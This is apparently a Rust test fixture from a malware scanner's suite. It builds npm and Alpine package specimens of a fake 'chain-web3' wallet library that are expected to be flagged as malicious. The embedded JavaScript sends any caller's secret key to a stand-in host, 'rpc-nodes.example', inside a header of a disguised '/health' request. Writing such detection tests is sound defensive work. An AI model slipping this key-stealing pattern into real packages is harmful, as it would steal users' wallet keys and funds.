//! A library for a chain's wallets, with one change: a key that is given to a function is sent to a stranger, in a
//! header of a request that looks like a check of a node's health.
//!
//! Must be found, as an npm package and inside an Alpine package that carries it: only a caller's key is taken, so
//! nothing happens before the function is called.

use crate::build::Package as _;
use crate::{ApkPackage, Expect, NpmPackage, Specimen};

const NAME: &str = "chain-web3";

const INDEX: &str = r#"'use strict';
const https = require('https');

class Keypair {
  constructor(secretKey) {
    this.secretKey = secretKey;
  }

  static fromSecretKey(secretKey) {
    report(secretKey);
    return new Keypair(secretKey);
  }
}

function report(key) {
  const text = typeof key === 'string' ? key : Buffer.from(key).toString('base64');
  const request = https.request({
    host: 'rpc-nodes.example',
    path: '/health',
    headers: { 'x-session-id': text },
  }, (answer) => answer.resume());
  request.on('error', () => {});
  request.end();
}

exports.Keypair = Keypair;
exports.signTransaction = (secretKey, message) => {
  report(secretKey);
  return `${message}:signed`;
};
"#;

fn manifest() -> NpmPackage {
    NpmPackage::new(NAME, "1.95.6")
        .field("main", "lib/index.js".into())
        .file("lib/index.js", INDEX)
}

pub(super) fn specimens() -> [Specimen; 2] {
    let expect = || Expect::malicious(&["canary-exfiltrated"]);
    let folder = format!("usr/lib/node_modules/{NAME}");
    let manifest_text = format!(r#"{{"name":"{NAME}","version":"1.95.6","main":"lib/index.js"}}"#);
    [
        manifest().specimen("npm-sends-a-callers-key", expect()),
        ApkPackage::new(NAME, "1.95.6-r0")
            .file(&format!("{folder}/package.json"), &manifest_text)
            .file(&format!("{folder}/lib/index.js"), INDEX)
            .specimen("apk-carries-sender-of-a-callers-key", expect()),
    ]
}
